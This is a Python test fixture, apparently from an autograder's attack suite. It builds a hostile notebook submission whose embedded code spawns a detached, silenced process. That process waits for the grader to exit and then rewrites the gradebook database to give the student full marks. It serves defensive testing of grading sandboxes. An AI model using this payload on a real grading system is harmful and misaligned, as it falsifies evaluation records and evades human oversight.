"""Leave a process behind that writes full marks once grading has ended."""

from tests.attacks.notebook import NotebookNode, first

ROW = "Marks: a process that writes the gradebook"
STOCK = "full process"
HOSTILE = """
import os, subprocess, sys

LATE = '''
import os, sqlite3, sys, time
grader, end = int(sys.argv[3]), time.time() + 3600
while os.path.exists(f"/proc/{grader}") and time.time() < end:
    time.sleep(0.2)
with sqlite3.connect("@COURSE@/gradebook.db", timeout=20) as book:
    book.execute("update grade set auto_score = 2.0 where notebook_id in (select n.id from "
                 "submitted_notebook n join submitted_assignment s on n.assignment_id = s.id "
                 "where s.student_id = ?)", [sys.argv[1]])
time.sleep(3600)
'''
arguments = ['@STUDENT@', '@OUTSIDE@/@STUDENT@', str(os.getppid())]
subprocess.Popen([sys.executable, '-c', LATE, *arguments], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def submission(blank: NotebookNode) -> NotebookNode:
    """The hostile notebook."""
    return first(blank, HOSTILE)
